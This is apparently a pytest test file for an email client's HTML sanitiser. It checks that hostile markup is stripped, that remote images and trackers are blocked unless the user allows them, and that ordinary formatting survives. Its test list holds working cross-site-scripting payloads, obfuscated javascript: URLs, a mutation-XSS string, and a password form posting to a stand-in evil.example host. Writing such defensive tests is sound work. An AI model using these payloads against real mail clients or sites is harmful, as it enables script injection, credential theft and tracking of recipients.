"""Hostile HTML: nothing that runs code or fetches from the network survives sanitising."""

from __future__ import annotations

import pytest

from deskmail.engine.mime.sanitize import REMOTE_PLACEHOLDER, sanitize_html
from tests.unit.mime_checks import assert_safe_html

HOSTILE = [
    "<script>alert(1)</script>hello",
    '<img src="x.png" onerror="alert(1)">',
    '<body onload="alert(1)">x</body>',
    '<a href="javascript:alert(1)">click</a>',
    '<a href="JaVaScRiPt&#58;alert(1)">click</a>',
    '<a href=" javascript:alert(1)">click</a>',
    '<a href="vbscript:msgbox(1)">click</a>',
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">click</a>',
    '<div style="width: expression(alert(1))">x</div>',
    '<div style="background: url(javascript:alert(1))">x</div>',
    '<div style="behavior: url(x.htc)">x</div>',
    '<div style="-moz-binding: url(http://evil/x.xml#x)">x</div>',
    '<div style="background:u\\72l(http://evil/x.png)">x</div>',
    '<meta http-equiv="refresh" content="0;url=http://evil.example/">text',
    '<iframe src="http://evil.example/"></iframe>',
    '<object data="http://evil.example/x.swf"></object><embed src="http://evil.example/x.swf">',
    '<form action="http://evil.example/"><input name="password"><button>Go</button></form>',
    '<svg><script>alert(1)</script><image href="http://evil.example/x.png"/></svg>',
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    '<link rel="stylesheet" href="http://evil.example/x.css">',
    "<style>body { background: url(http://evil.example/track.png) }</style>",
    '<base href="http://evil.example/"><img src="tracker.png">',
    '<img src="http://tracker.example/open.gif?u=1">',
    '<img src="//tracker.example/open.gif">',
    '<img srcset="http://tracker.example/a.png 1x, https://tracker.example/b.png 2x">',
    '<table background="http://tracker.example/bg.png"><tr><td background="https://t.example/x">x</td></tr></table>',
    '<div style="background-image: url(&quot;https://tracker.example/bg.png&quot;)">x</div>',
    '<div style="position: fixed; top: 0; left: 0; width: 100%">fake login bar</div>',
    "<!--[if gte mso 9]><script>alert(1)</script><![endif]-->text",
    '<img src="x" onerror="alert(1)"/><svg/onload=alert(1)>',
    '<a href="http://ok.example/" onclick="steal()">link</a>',
]


@pytest.mark.parametrize("markup", HOSTILE)
def test_hostile_html_is_neutralised(markup: str) -> None:
    result = sanitize_html(markup)
    assert_safe_html(result.html)
    lowered = result.html.lower()
    for word in ("javascript", "vbscript", "expression(", "alert(", "<meta", "<iframe", "<form", "<object"):
        assert word not in lowered


def test_remote_images_are_blocked_and_reported() -> None:
    result = sanitize_html('<p>Hi</p><img src="https://tracker.example/open.gif" alt="logo">')
    assert result.has_remote_content and result.remote_blocked
    assert "tracker.example" not in result.html
    assert REMOTE_PLACEHOLDER in result.html
    assert 'alt="logo"' in result.html


@pytest.mark.parametrize(
    "markup",
    [
        '<img srcset="https://t.example/a.png 1x">',
        '<table><tr><td background="https://t.example/bg.png">x</td></tr></table>',
        '<div style="background: url(https://t.example/bg.png)">x</div>',
        '<span style="background-image:url(//t.example/bg.png)">x</span>',
    ],
)
def test_every_kind_of_remote_reference_is_reported(markup: str) -> None:
    result = sanitize_html(markup)
    assert result.remote_blocked
    assert "t.example" not in result.html


def test_remote_content_is_kept_when_the_user_allows_it() -> None:
    markup = '<img src="https://cdn.example/a.png"><div style="background: url(https://cdn.example/b.png)">x</div>'
    result = sanitize_html(markup, allow_remote=True)
    assert result.has_remote_content and not result.remote_blocked
    assert 'src="https://cdn.example/a.png"' in result.html
    assert "url(https://cdn.example/b.png)" in result.html


def test_allowing_remote_content_still_strips_scripts() -> None:
    result = sanitize_html(
        '<img src="https://a.example/x.png" onerror="alert(1)"><script>x()</script>', allow_remote=True
    )
    assert "onerror" not in result.html and "<script" not in result.html


def test_cid_images_are_resolved_and_not_remote() -> None:
    result = sanitize_html('<img src="cid:Logo@Example">', cid_urls={"logo@example": "data:image/png;base64,AAAA"})
    assert 'src="data:image/png;base64,AAAA"' in result.html
    assert not result.has_remote_content


def test_ordinary_formatting_survives() -> None:
    markup = (
        '<table width="100%" cellpadding="4"><tr><td bgcolor="#eeeeee" style="color: #333; font-size: 14px">'
        '<b>Bold</b> <a href="https://example.com/">link</a> <font color="red">red</font></td></tr></table>'
    )
    html = sanitize_html(markup).html
    for kept in (
        'cellpadding="4"',
        'bgcolor="#eeeeee"',
        "color: #333",
        "<b>Bold</b>",
        'href="https://example.com/"',
        '<font color="red">',
    ):
        assert kept in html


def test_links_do_not_leak_the_referrer() -> None:
    assert 'rel="noopener noreferrer"' in sanitize_html('<a href="https://example.com/">x</a>').html
